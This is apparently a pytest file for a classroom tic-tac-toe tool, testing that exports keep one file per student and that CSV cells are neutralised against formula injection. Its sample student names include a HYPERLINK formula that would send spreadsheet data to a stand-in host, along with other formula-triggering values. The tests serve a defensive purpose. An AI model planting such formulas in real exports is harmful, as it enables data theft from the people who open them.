"""Exports that lose nothing: one file (and zip entry) per student even when names make the
same file name, the same names in every run, the zip holding every file reported, and CSV
cells that a spreadsheet would run as formulas neutralised."""

import csv
import io
import zipfile

from boardgames.classroom import leaderboard
from boardgames.classroom.client import ClassClient, player_of, submission_of
from boardgames.classroom.model import Grid
from boardgames.cli import main
from boardgames.games.tictactoe import tournament_report
from boardgames.games.tictactoe.tournament import STUDENT, Entrant, TournamentResult

#: Names that all make the file name "Anna_" (the last one but for case).
CLASHING = ["Anna!", "Anna?", "anna_"]


def send_from(server, tmp_path, names):
    """Each of ``names`` joins from its own computer over HTTP and sends a tournament player
    and a check, each file saying whose it is."""
    for number, name in enumerate(names):
        client = ClassClient(f"127.0.0.1:{server.port}", server.code, name,
                             state_path=tmp_path / f"laptop{number}.json")
        assert client.submit(player_of("tictactoe", f"def choose_move(board):  # {name}\n"
                                                    "    return board.index('')\n"))
        assert client.submit(submission_of("tictactoe/block", True, [("wins", True, "check.passed")],
                                           0.1, f"# {name}\n"))


def test_players_whose_names_make_one_file_name_get_a_file_each(serve, tmp_path, capsys):
    server = serve()
    send_from(server, tmp_path, CLASHING)
    server.stop()
    out = tmp_path / "players"
    assert main(["class", "players", "--out", str(out)]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert len(printed) == 3
    assert len({path.casefold() for path in printed}) == 3  # distinct on Windows and macOS too
    files = sorted((out / "tictactoe").iterdir())
    assert len(files) == 3
    assert sorted(f.read_text(encoding="utf-8").split("# ")[1].split("\n")[0] for f in files) == \
        sorted(CLASHING)  # nothing overwritten
    assert main(["class", "players", "--out", str(out)]) == 0
    assert capsys.readouterr().out.splitlines() == printed  # the same names in every run


def test_the_zip_holds_every_file_it_reports(serve, tmp_path, capsys):
    server = serve()
    send_from(server, tmp_path, CLASHING)
    server.stop()
    archive = tmp_path / "files.zip"
    assert main(["class", "export", "--zip", str(archive)]) == 0
    reported = int(capsys.readouterr().out.split()[0])
    with zipfile.ZipFile(archive) as files:
        entries = files.namelist()
        texts = sorted(files.read(entry).decode("utf-8") for entry in entries)
    assert reported == len(entries) == 3
    assert len({entry.casefold() for entry in entries}) == 3
    assert texts == sorted(f"# {name}\n" for name in CLASHING)


def test_formulas_in_names_are_neutralised_in_the_grid_s_csv(serve, tmp_path, capsys):
    server = serve()
    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Anna")', "+1+1", "-2", "@SUM(A1)"]
    send_from(server, tmp_path, hostile)
    server.stop()
    assert main(["class", "results", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [row[0] for row in rows[1:]] == [f"'{name}" for name in hostile]
    assert Grid(["=cmd", "Boris"]).csv().splitlines()[1:] == ["'=cmd", "Boris"]


def test_formulas_are_neutralised_in_the_leaderboard_and_tournament_csv():
    entries = [leaderboard.Entry("=1+1", 1, 1, 10, 0.5), leaderboard.Entry("Boris", 0, 1, 0, 0.1,
                                                                           "@error\tfound")]
    rows = list(csv.reader(io.StringIO(leaderboard.as_csv(entries))))
    assert [rows[1][1], rows[2][1], rows[2][6]] == ["'=1+1", "Boris", "'@error\tfound"]
    assert rows[1][4] == "10"  # numbers as they are
    result = TournamentResult((Entrant("=HYPERLINK(1).py", STUDENT), Entrant("\tTab.py", STUDENT)))
    rows = list(csv.reader(io.StringIO(tournament_report.to_csv(result))))
    assert sorted(row[1] for row in rows[1:]) == ["'\tTab.py", "'=HYPERLINK(1).py"]
